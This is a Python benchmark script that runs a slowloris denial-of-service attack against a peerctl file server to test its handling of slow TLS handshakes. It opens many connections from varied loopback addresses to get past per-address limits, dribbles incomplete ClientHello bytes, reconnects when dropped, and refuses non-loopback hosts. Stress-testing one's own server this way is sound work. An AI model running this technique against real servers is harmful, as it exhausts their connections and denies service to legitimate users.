#!/usr/bin/env python3
"""A slowloris attack on a peerctl file server, for bench/transfer.sh.

Opens CONNECTIONS TCP connections to HOST:PORT, each from its own loopback
source address (127.0.0.2, 127.0.0.3, ...: so that a per-address limit does
not stop them and only the server's handling of slow heads can), and sends
each one byte every INTERVAL seconds, never a whole request head: the bytes
of a TLS record header that never completes. A connection the server closes
is opened again at once, as an attacker would. It runs until SIGTERM or
SIGINT, or for at most --max-seconds, then prints one line:

  slowloris connections=N bytes=B reconnects=R

Usage: bench/slowloris.py HOST PORT [--connections 100] [--interval 2]
                          [--max-seconds 600]
Loopback only: the sources are 127.0.0.x, so HOST must be a loopback address.
"""

import argparse
import signal
import socket
import sys
import time


def open_connection(host, port, index):
    """A non-blocking connection from 127.0.0.(2 + index % 250)."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setblocking(False)
    sock.bind(("127.0.0.%d" % (2 + index % 250), 0))
    try:
        sock.connect((host, port))
    except BlockingIOError:
        pass
    return sock


def main():
    parser = argparse.ArgumentParser(
        description="Dribble one byte per connection every INTERVAL seconds.")
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--connections", type=int, default=100)
    parser.add_argument("--interval", type=float, default=2.0)
    parser.add_argument("--max-seconds", type=float, default=600.0)
    args = parser.parse_args()
    if not args.host.startswith("127."):
        print("slowloris.py: HOST must be a 127.x.y.z loopback address",
              file=sys.stderr)
        return 2

    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(True))
    signal.signal(signal.SIGINT, lambda *_: stop.append(True))

    # A TLS record header (handshake, TLS 1.0 legacy version, length 512)
    # whose body never comes: the server waits for the rest of a ClientHello.
    dribble = bytes([0x16, 0x03, 0x01, 0x02, 0x00]) + b"\x01" * 507
    conns = [open_connection(args.host, args.port, i)
             for i in range(args.connections)]
    sent_at = [0] * len(conns)  # bytes of `dribble` each has sent
    total_bytes = 0
    reconnects = 0
    end = time.monotonic() + args.max_seconds
    while not stop and time.monotonic() < end:
        for i, sock in enumerate(conns):
            try:
                if sock.send(dribble[sent_at[i] % len(dribble):][:1]) == 1:
                    sent_at[i] += 1
                    total_bytes += 1
            except BlockingIOError:
                pass  # still connecting, or the buffer is full
            except OSError:
                sock.close()
                conns[i] = open_connection(args.host, args.port, i)
                sent_at[i] = 0
                reconnects += 1
        # Sleep INTERVAL, in short steps so that a signal ends it soon.
        wake = time.monotonic() + args.interval
        while not stop and time.monotonic() < min(wake, end):
            time.sleep(0.1)
    for sock in conns:
        sock.close()
    print("slowloris connections=%d bytes=%d reconnects=%d"
          % (len(conns), total_bytes, reconnects))
    return 0


if __name__ == "__main__":
    sys.exit(main())
